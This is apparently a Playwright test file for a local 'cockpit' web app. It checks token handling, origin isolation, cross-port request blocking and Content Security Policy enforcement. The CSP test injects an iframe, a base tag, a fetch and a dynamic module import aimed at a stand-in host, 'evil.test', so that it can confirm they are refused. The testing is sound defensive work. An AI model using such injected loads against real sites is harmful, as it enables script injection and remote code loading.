import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './support/cockpit.ts';

test('the token leaves the address, and the app opens without breaking its own policy', async ({ cockpit }) => {
  await cockpit.page.waitForFunction(() => document.querySelector('#root')?.childElementCount);
  expect(cockpit.page.url()).not.toContain('key=');
  expect(await cockpit.page.evaluate(() => document.cookie)).toBe('');
});

test('a tab that was left open works again after a restart', async ({ cockpit }) => {
  const page = await cockpit.restart();
  await page.waitForFunction(() => document.querySelector('#root')?.childElementCount);
  expect(new URL(page.url()).origin).toBe(cockpit.origin);
});

test('a used address opens nothing in another browser', async ({ cockpit, browser }) => {
  const stranger = await browser.newContext();
  const page = await stranger.newPage();
  await page.goto(cockpit.origin);
  await expect(page.getByRole('heading', { name: 'This browser has no key yet' })).toBeVisible();
  await page.goto(`${cockpit.origin}/#key=wrong`);
  await expect(page.getByRole('heading', { name: 'This browser has no key yet' })).toBeVisible();
  await expect(page).toHaveURL(`${cockpit.origin}/`);
  await stranger.close();
});

test('localhost leads to the one address, so there is no second, empty store', async ({ cockpit }) => {
  await cockpit.page.goto(cockpit.origin.replace('127.0.0.1', 'localhost'));
  await cockpit.page.waitForFunction(() => document.querySelector('#root')?.childElementCount);
  expect(new URL(cockpit.page.url()).origin).toBe(cockpit.origin);
});

test('a page on another port reaches nothing: no answer, no picture, no socket', async ({ cockpit, context }) => {
  const server = createServer((_request, response) =>
    response.writeHead(200, { 'Content-Type': 'text/html' }).end('<h1>Another program</h1>'),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const foreign = await context.newPage();
  await foreign.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  // The same site, so the browser sends the cookie along: only the shell's own checks stand in the way.
  const reached = await foreign.evaluate(async (origin) => {
    const attempt = (run: () => Promise<unknown>): Promise<string> =>
      run().then(
        () => 'reached',
        () => 'refused',
      );
    const image = new Image();
    const socketUrl = `${origin.replace('http', 'ws')}/host`;
    const settled = (target: EventTarget, good: string, begin?: () => void): Promise<unknown> =>
      new Promise((resolve, reject) => {
        target.addEventListener(good, resolve);
        target.addEventListener('error', reject);
        begin?.();
      });
    return {
      fetch: await attempt(() => fetch(`${origin}/`, { credentials: 'include' })),
      post: await attempt(() => fetch(`${origin}/session`, { method: 'POST', body: '{"token":"x"}', credentials: 'include' })),
      image: await attempt(() => settled(image, 'load', () => (image.src = `${origin}/`))),
      socket: await attempt(() => settled(new WebSocket(socketUrl), 'open')),
    };
  }, cockpit.origin);
  expect(reached).toEqual({ fetch: 'refused', post: 'refused', image: 'refused', socket: 'refused' });
  await foreign.close();
  server.close();
});

test.describe('the policy', () => {
  test.use({ allowedErrors: /Content Security Policy|TrustedScript/ });

  test('stops inline scripts, foreign connections, frames, bases and workers from blobs', async ({ cockpit }) => {
    const { page } = cockpit;
    await page.waitForFunction(() => document.querySelector('#root')?.childElementCount);
    const ran = await page.evaluate(async () => {
      const violated = new Set<string>();
      const note = (directive: string): void => {
        violated.add(directive);
        document.body.dataset['violated'] = [...violated].toSorted().join(' ');
      };
      document.addEventListener('securitypolicyviolation', (event) => note(event.effectiveDirective));
      const script = document.createElement('script');
      script.append('window.ran = true');
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.test/';
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      document.body.append(script, frame, base);
      await fetch('https://evil.test/').catch(() => undefined);
      const address: string = 'https://evil.test/module.js';
      await import(address).catch(() => undefined);
      try {
        new Worker(URL.createObjectURL(new Blob(['']))).terminate();
      } catch {
        note('worker-src');
      }
      return 'ran' in window;
    });
    expect(ran).toBe(false);
    const stopped = ['base-uri', 'connect-src', 'frame-src', 'require-trusted-types-for', 'script-src-elem', 'worker-src'];
    await expect
      .poll(async () => (await page.locator('body').getAttribute('data-violated'))?.split(' '))
      .toEqual(expect.arrayContaining(stopped));
  });
});
